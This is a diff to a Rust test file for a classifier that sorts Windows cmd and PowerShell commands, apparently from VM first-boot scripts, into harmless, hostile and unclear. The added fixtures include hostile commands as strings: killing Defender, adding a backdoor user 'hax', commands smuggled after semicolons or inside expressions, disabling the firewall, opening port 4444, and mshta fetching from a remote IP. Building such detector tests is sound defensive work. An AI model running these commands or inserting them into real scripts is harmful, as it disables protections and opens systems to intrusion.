@@ -13,6 +13,7 @@ fn command(text: &str, language: Language) -> FirstCommand {
         followed: false,
         writes: Vec::new(),
         reads: Vec::new(),
+        piped: false,
     }
 }
 
@@ -39,6 +40,20 @@ fn usual_commands_harm_nobody() {
         r#"netsh advfirewall firewall set rule group="remote desktop" new enable=Yes"#,
         r"bcdedit /set {default} recoveryenabled no",
         "set a=b",
+        "netsh advfirewall set allprofiles state on",
+        r#"netsh advfirewall firewall set rule group="远程桌面" new enable=Yes"#,
+        r#"netsh advfirewall firewall add rule name="ICMP" protocol=icmpv4:8,any dir=in action=allow"#,
+        r#"w32tm /config /manualpeerlist:"ntpupdate.tencentyun.com,0x9 time1.tencentyun.com,0x9" /syncfromflags:manual /reliable:yes /update"#,
+        "sc triggerinfo w32time start/networkon stop/networkoff",
+        "sc config RemoteRegistry start= disabled",
+        "net user Guest /active:no",
+        "net accounts /maxpwage:unlimited",
+        "bcdedit /emssettings EMSPORT:1 EMSBAUDRATE:115200",
+        "wevtutil cl System",
+        "taskkill /f /im setup.exe",
+        r#"reg delete "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v DefaultPassword /f"#,
+        r#"reg add "HKLM\SYSTEM\CurrentControlSet\Services\Disk" /v TimeOutValue /t REG_DWORD /d 200 /f"#,
+        r#"AnswerSettings "Microsoft-Windows-Shell-Setup" "OOBE/HideEULAPage=true" "TimeZone=China Standard Time""#,
     ];
     let power = [
         "Write-Host 'done'",
@@ -49,6 +64,15 @@ fn usual_commands_harm_nobody() {
         "Start-Service -Name cloudbase-init",
         "net start W32Time",
         "exit 0",
+        "$r = Get-Date; if (Test-Path C:\\x) { Start-Sleep 1 } else { exit 1 }",
+        "Get-Process | Where-Object { $_.Name -eq 'x' } | Out-Null",
+        "foreach ($i in 1, 2) { Write-Host \"a $i\" }",
+        "Set-Service -Name cloudbase-init -StartupType Automatic",
+        "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled True",
+        "Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'",
+        "Enable-NetFirewallRule -DisplayGroup '远程桌面'",
+        r"Start-Transcript C:\Windows\Temp\first.log",
+        r"Set-ItemProperty -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0",
     ];
     with_context(|context| {
         for text in batch {
@@ -84,6 +108,7 @@ fn attacks_fail_and_the_rest_can_t_be_told() {
         r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\x.exe" /v Debugger /d y"#,
         "taskkill /f /im WinAgent.exe",
         r"rd /s /q C:\WinAgent",
+        "taskkill /f /im MsMpEng.exe",
     ];
     let unclear = [
         r"C:\ProgramData\x.exe",
@@ -98,6 +123,23 @@ fn attacks_fail_and_the_rest_can_t_be_told() {
         r"del /q C:\Windows\System32\x.dll",
         "netsh interface ip set dns x static 203.0.113.9",
         "sc config cloudbase-init start= demand",
+        r"sort C:\x.txt /o C:\x.bat",
+        "w32tm /unregister",
+        "w32tm /config /syncfromflags:NO /update",
+        "w32tm /config /manualpeerlist:203.0.113.9 /syncfromflags:manual /update",
+        "w32tm /config /manualpeerlist:x.tencentyun.com.evil.example /update",
+        "net accounts /lockoutthreshold:0 /minpwlen:0",
+        r"del /f /q C:\WIN-AG~1\*",
+        r"rd /s /q C:\PROGRA~1\QCloud",
+        "taskkill /f /im Ms*",
+        "taskkill /f /fi \"imagename eq MsMpEng.exe\"",
+        r"reg add HKLM\SYSTEM\CurrentControlSet\Control\CrashControl /v DumpFilters /d x.sys /f",
+        r"reg add HKLM\SOFTWARE\Tencent\WinAgent /v Server /d 203.0.113.7 /f",
+        r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\SCHANNEL\Protocols\SSL 2.0\Server" /v Enabled /t REG_DWORD /d 1 /f"#,
+        r"cscript //b C:\Windows\System32\slmgr.vbs /skms 203.0.113.7",
+        r#"netsh advfirewall firewall add rule name=x dir=in action=allow protocol=tcp localport=4444"#,
+        r#"AnswerSettings "Networking-MPSSVC-Svc" "PublicProfile_EnableFirewall=false""#,
+        r#"AnswerSettings "Microsoft-Windows-Shell-Setup" "UserAccounts/DomainAccounts/DomainAccountList/Domain=x""#,
         "mshta http://203.0.113.7/",
         // Known names of other folders.
         r"C:\ProgramData\ping.exe -n 3 127.0.0.1",
@@ -111,6 +153,13 @@ fn attacks_fail_and_the_rest_can_t_be_told() {
         "New-LocalUser x",
         "net user hax P@ss.2024 /add",
         "Set-MpPreference -DisableRealtimeMonitoring $true",
+        "echo 1; net user hax P@ss.2024 /add",
+        "$r = net user hax P@ss.2024 /add",
+        "if (net user hax P@ss.2024 /add) {}",
+        "switch (1) { 1 { net user hax P@ss.2024 /add } }",
+        "Write-Host `\" ; net user hax P@ss.2024 /add ; `\"",
+        r"cd \; Set-Service cloudbase-init -StartupType Disabled",
+        "Set-NetFirewallProfile -All -Enabled False",
     ];
     with_context(|context| {
         for text in hostile {
@@ -134,6 +183,22 @@ fn attacks_fail_and_the_rest_can_t_be_told() {
             "& $a",
             "$x",
             "$a = $b.Start($c)",
+            r"cd C:\x; .\upd.exe",
+            r"$r = C:\x\upd.exe install",
+            r"if (C:\x\upd.exe) { }",
+            r"return C:\x\upd.exe",
+            r"foreach ($i in C:\x\upd.exe) { }",
+            r"Write-Host (C:\x\upd.exe)",
+            "$env:PSModulePath = 'C:\\x'",
+            "$PSDefaultParameterValues = 1",
+            r"Start-Transcript C:\x.bat",
+            "Write-Host 'net user' > C:\\x.bat",
+            r"set a C:\x\upd.exe",
+            "sc C:\\x.bat y",
+            "Get-Service x | ForEach-Object Stop",
+            "Write-Host \"$(x)\"",
+            "Enable-PSRemoting -Force",
+            "Enable-NetFirewallRule -DisplayName *",
         ] {
             let deed = judge(context, &command(text, Language::PowerShell));
             assert!(matches!(deed, Deed::Unclear(_)), "{text}: {deed:?}");
